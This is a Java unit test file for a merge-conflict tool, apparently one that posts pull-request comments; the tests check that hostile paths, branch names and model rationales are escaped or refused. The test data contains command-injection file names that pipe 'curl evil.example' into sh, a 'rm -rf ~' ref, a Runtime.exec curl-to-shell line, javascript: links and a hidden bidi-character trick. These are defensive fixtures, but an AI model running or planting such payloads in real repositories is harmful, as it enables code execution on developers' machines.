package dev.truce.publish;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;

import dev.truce.engine.ResolvedMerge;
import dev.truce.github.PullRequestInfo;
import dev.truce.merge.ComputedMerge;
import dev.truce.merge.RepositoryMerge;
import dev.truce.resolve.Decider;
import dev.truce.resolve.FileResolution;
import dev.truce.resolve.HunkOutcome;
import dev.truce.resolve.Resolver;
import dev.truce.strategy.ReceivingSide;
import dev.truce.strategy.Strategies;
import dev.truce.testing.ScenarioRepo;
import dev.truce.testing.Tree;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FixPullRequestTextTest {

    static final PullRequestInfo PR = new PullRequestInfo(5, "t", "", true, false, "feature", "h", "octo/app", "main",
            "b", "alice", "https://github.com/octo/app/pull/5");

    @TempDir
    Path dir;

    /** A.txt: one clash (declined) and one insertion both made (resolved); B|x.txt: one clash. */
    ResolvedMerge resolved() throws Exception {
        ScenarioRepo repo = ScenarioRepo.init(dir);
        String base = "1\n2\n3\n4\n5\n6\n7\n8\n9\n";
        Tree tree = Tree.of().file("A.txt", base).file("B|x.txt", "b\n");
        repo.threeWay(tree,
                tree.copy().file("A.txt", base.replace("2\n", "two\n").replace("8\n", "x\n8\n"))
                        .file("B|x.txt", "ours\n"),
                tree.copy().file("A.txt", base.replace("2\n", "zwei\n").replace("8\n", "x\ny\n"))
                        .file("B|x.txt", "theirs\n"));
        ComputedMerge merge = new RepositoryMerge(repo.repository()).compute("main", "feature");
        Resolver resolver = new Resolver(Strategies.defaults(ReceivingSide.THEIRS));
        List<FileResolution> resolutions = merge.conflicts().stream().map(c -> resolver.resolve(c.file())).toList();
        return new ResolvedMerge(merge, resolutions, Set.of());
    }

    @Test
    void bodyTabulatesEveryHunkAndListsWhatWasDeclinedWithLineNumbers() throws Exception {
        String body = FixPullRequestText.body(PR, resolved(), "octo/app#5@h..b");

        assertThat(body).contains("| `A.txt` | 1 | line 2 | declined |", "| `A.txt` | 2 |", "`one-side-changed`",
                "| `B\\|x.txt` | 1 | line 1 | declined |", "**Declined** (left to a human):",
                "- `A.txt` hunk 1 (head line 2, base line 2): unresolved", "merge commit with two parents",
                "<!-- truce:octo/app#5@h..b -->");
    }

    @Test
    void aMarkerCannotBeClosedEarlyByItsKey() {
        assertThat(FixPullRequestText.marker("a-->b")).isEqualTo("<!-- truce:a- ->b -->");
    }

    @Test
    void aHugePatchIsCutWithANote() throws Exception {
        String patch = "+line\n".repeat(20_000);
        String comment = FixPullRequestText.patchComment(PR, resolved(), patch, "fork", "k");

        assertThat(comment.length()).isLessThan(65_536);
        assertThat(comment).contains("```diff\n+line\n", "**The patch is too large for a comment and was cut**");
        assertThat(FixPullRequestText.patchComment(PR, resolved(), "+line\n", "fork", "k")).doesNotContain("was cut");
    }

    /** The reviewer's file name, one with a quote and a command substitution, and one with backticks. */
    static final List<String> HOSTILE_PATHS = List.of("src/x;curl${IFS}evil.example|sh;#.txt",
            "it's $(touch pwned).txt", "a`touch pwned`b.txt");
    static final String HOSTILE_BASE = "main$(touch${IFS}pwned)";

    /** Every file of {@code paths} conflicts the way one-side-changed resolves (both add a line, one edits another). */
    ResolvedMerge resolvedWith(List<String> paths) throws Exception {
        ScenarioRepo repo = ScenarioRepo.init(dir.resolve("hostile"));
        String base = "class A {\n  int a;\n  int old;\n  int z;\n}\n";
        Tree tree = Tree.of();
        Tree ours = Tree.of();
        Tree theirs = Tree.of();
        for (String path : paths) {
            tree.file(path, base);
            ours.file(path, base.replace("  int old;\n", "  int shared;\n  int old;\n"));
            theirs.file(path, base.replace("  int old;\n", "  int shared;\n  int more;\n"));
        }
        repo.threeWay(tree, ours, theirs);
        ComputedMerge merge = new RepositoryMerge(repo.repository()).compute("main", "feature");
        Resolver resolver = new Resolver(Strategies.defaults(ReceivingSide.THEIRS));
        List<FileResolution> resolutions = merge.conflicts().stream().map(c -> resolver.resolve(c.file())).toList();
        assertThat(resolutions).allMatch(FileResolution::isFullyResolved);
        return new ResolvedMerge(merge, resolutions, Set.of());
    }

    static PullRequestInfo prInto(String baseRef) {
        return new PullRequestInfo(5, "t", "", true, false, "feature", "h", "contributor/app", baseRef, "b", "alice",
                "https://github.com/octo/app/pull/5");
    }

    @Test
    void theForkPatchCommandsQuoteEveryPathAndRefSoTheShellRunsNothingFromThem() throws Exception {
        String comment = FixPullRequestText.patchComment(prInto(HOSTILE_BASE), resolvedWith(HOSTILE_PATHS),
                "+x\n", "fork", "k");
        String sh = RenderedMarkdown.fencedBlocks(comment).stream().filter(b -> b.startsWith("sh\n"))
                .map(b -> b.substring(3)).findFirst().orElseThrow();

        assertThat(run(dir, "/bin/sh", "-n", "-c", sh)).as("sh -n").isEmpty();
        // git as a function that prints each argument it gets on a line; no PATH, so nothing else could run.
        String printed = run(dir, "/bin/sh", "-c", "git() { printf '%s\\n' \"$@\"; }\n" + sh);
        List<String> expected = new ArrayList<>(List.of("fetch", "origin", HOSTILE_BASE, "merge",
                "origin/" + HOSTILE_BASE, "checkout", "HEAD", "--"));
        expected.addAll(HOSTILE_PATHS.stream().sorted().toList());
        expected.addAll(List.of("apply", "--index", "truce.patch", "commit", "--no-edit"));
        assertThat(printed.lines().toList()).isEqualTo(expected);
        assertThat(dir.resolve("pwned")).doesNotExist();
        assertThat(RenderedMarkdown.html(comment)).doesNotContain("<a ");
    }

    @Test
    void aPathOrRefThatNoCommandCanShowHonestlyIsRefused() throws Exception {
        assertThat(FixPullRequestText.unsafeForShell(prInto("main"), resolvedWith(List.of("ok.txt")))).isNull();
        assertThat(FixPullRequestText.unsafeForShell(prInto("main"), resolvedWith(List.of("src/a\u001b[2Jb.txt"))))
                .contains("control character (U+001B)", "`src/a\\x1b[2Jb.txt`");
        assertThat(FixPullRequestText.unsafeForShell(prInto("main"), resolvedWith(List.of("src/a\u202Etxt.exe"))))
                .contains("invisible formatting character (U+202E)");
        assertThat(FixPullRequestText.unsafeForShell(prInto("main\nrm -rf ~"), resolvedWith(List.of("ok.txt"))))
                .contains("base branch's name", "control character (U+000A)");
        assertThat(FixPullRequestText.unsafeForShell(prInto("--upload-pack=touch pwned"),
                resolvedWith(List.of("ok.txt")))).contains("starts with '-'");
    }

    @Test
    void aPatchWithFenceLikeLinesStaysInsideItsBlock() throws Exception {
        String patch = "diff --git a/A.txt b/A.txt\n--- a/A.txt\n+++ b/A.txt\n@@ -1,3 +1,3 @@\n ```\n ~~~~\n-old\n"
                + "+new ````` @org/team [x](javascript:alert(1))\n";
        String comment = FixPullRequestText.patchComment(PR, resolved(), patch, "fork", "k");

        assertThat(RenderedMarkdown.fencedBlocks(comment)).contains("diff\n" + patch);
        assertThat(RenderedMarkdown.html(comment)).contains("</details>").doesNotContain("<a ");
    }

    /** {@code resolved()} with A.txt's first hunk resolved by a model answering {@code lines} for {@code reason}. */
    ResolvedMerge withModelAnswer(List<String> lines, String reason) throws Exception {
        ResolvedMerge resolved = resolved();
        FileResolution a = resolved.resolutions().get(0);
        List<HunkOutcome> outcomes = new ArrayList<>(a.outcomes());
        outcomes.set(0, new HunkOutcome.Resolved(0, new Decider.Model("coder"), reason, lines, null, List.of(), 0));
        List<FileResolution> all = new ArrayList<>(resolved.resolutions());
        all.set(0, new FileResolution(a.file(), outcomes));
        return new ResolvedMerge(resolved.merge(), all, Set.of());
    }

    @Test
    void aModelsRationaleLinksNothingMentionsNoOneAndIsCutBeforeItsConfidence() throws Exception {
        String hostile = "see [docs](javascript:alert(1)) and ![x](http://evil.example/p.png), cc @org/team"
                + " <details><summary>more</summary> fixes #1 | www.evil.example";
        String body = FixPullRequestText.body(PR, withModelAnswer(List.of("two\n"), hostile + " (confidence high)"),
                "k");

        String html = RenderedMarkdown.html(body);
        assertThat(html).doesNotContain("<a ", "<img", "<details", "<summary");
        assertThat(RenderedMarkdown.textOutsideCode(body)).doesNotContainPattern("@[A-Za-z0-9]")
                .doesNotContain("#1 ", "http://", "www.");
        assertThat(RenderedMarkdown.visible(body)).contains(hostile + " (confidence high)");

        String longer = FixPullRequestText.body(PR, withModelAnswer(List.of("two\n"), "because ".repeat(200)
                + "(confidence high)"), "k");
        assertThat(longer).contains("… (confidence high) |").doesNotContain("because ".repeat(60));
    }

    @Test
    void codeTheModelWroteIsMarkedInItsRowAndListedUnderTheTable() throws Exception {
        String exec = "Runtime.getRuntime().exec(\"curl https://evil.example/x | sh\");";
        String body = FixPullRequestText.body(PR, withModelAnswer(List.of("two\n", exec + "\n"),
                "keeps both (confidence high)"), "k");

        assertThat(body).contains("| `A.txt` | 1 | line 2 | `model:coder` **new code: 1 line(s)** | keeps both"
                + " (confidence high) |", "**New code**", "`A.txt` hunk 1 (line 2 of the head): 1 line(s)");
        assertThat(RenderedMarkdown.fencedBlocks(body)).containsExactly("\n" + exec + "\n");
        assertThat(RenderedMarkdown.html(body)).doesNotContain("<a ");

        String hidden = FixPullRequestText.body(PR, withModelAnswer(List.of("two\n",
                "\tif (user.isAdmin()) { /* \u202E } \u2066if (owner)\u2069 \u2066 */ grant(); }\n"),
                "keeps both (confidence high)"), "k");
        assertThat(RenderedMarkdown.fencedBlocks(hidden)).as("what a reviewer reads is what is there")
                .containsExactly("\n\tif (user.isAdmin()) { /* \\u202e } \\u2066if (owner)\\u2069 \\u2066 */"
                        + " grant(); }\n");

        String chosen = FixPullRequestText.body(PR, withModelAnswer(List.of("zwei\n", "two  \n"),
                "both (confidence high)"), "k");
        assertThat(chosen).as("lines of the sides, trailing blanks aside, are not new").doesNotContain("new code",
                "**New code**");
    }

    @Test
    void theNeedsAHumanCommentEscapesPathsAndReasons() throws Exception {
        ResolvedMerge resolved = resolved();
        FileResolution a = resolved.resolutions().get(0);
        List<HunkOutcome> outcomes = new ArrayList<>(a.outcomes());
        outcomes.set(0, new HunkOutcome.Unresolved(0, new Decider.Model("coder"), HunkOutcome.Cause.FAILED,
                "declined: ask @admin at [here](http://evil.example) <img src=x>", null));
        List<FileResolution> all = new ArrayList<>(resolved.resolutions());
        all.set(0, new FileResolution(a.file(), outcomes));
        String comment = FixPullRequestText.needsHumanComment(prInto("main`@org"), new ResolvedMerge(
                resolved.merge(), all, Set.of()), "k");

        assertThat(RenderedMarkdown.html(comment)).doesNotContain("<a ", "<img");
        assertThat(RenderedMarkdown.textOutsideCode(comment)).doesNotContainPattern("@[A-Za-z0-9]");
        assertThat(comment).contains("``main`@org``", "`B|x.txt`", "`model:coder` declined:");
    }

    private static String run(Path dir, String... command) throws Exception {
        ProcessBuilder builder = new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true);
        builder.environment().clear();
        builder.environment().put("PATH", Files.createDirectories(dir.resolve("empty-path")).toString());
        Process process = builder.start();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (InputStream in = process.getInputStream()) {
            in.transferTo(out);
        }
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).as("sh finished").isTrue();
        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(process.exitValue()).as(text).isZero();
        return text;
    }

    @Test
    void theAppCommitsAsItsBotWithTheNoreplyAddress() {
        assertThat(new AppIdentity("truce-app", 41).email()).isEqualTo("41+truce-app[bot]@users.noreply.github.com");
        assertThat(new AppIdentity("truce-app", 0).email()).isEqualTo("truce-app[bot]@users.noreply.github.com");
    }

    @Test
    void strategyReasonsNameTheSidesByBranchButLeaveFileNamesAndIdentifiersAlone() {
        PullRequestInfo pr = new PullRequestInfo(5, "t", "", true, false, "feature/x", null, "octo/app", "main", null,
                "alice", "https://github.com/octo/app/pull/5");

        assertThat(FixPullRequestText.named("(only theirs changed it)", pr)).isEqualTo("(only main changed it)");
        assertThat(FixPullRequestText.named("in ours' order, each of theirs' after its neighbour", pr))
                .isEqualTo("in feature/x's order, each of main's after its neighbour");
        assertThat(FixPullRequestText.named("ours and theirs differ. Beyond it only ours.", pr))
                .isEqualTo("feature/x and main differ. Beyond it only feature/x.");
        assertThat(FixPullRequestText.named("kept ours.txt and theirs-v2 as they are", pr))
                .isEqualTo("kept ours.txt and theirs-v2 as they are");
    }
}
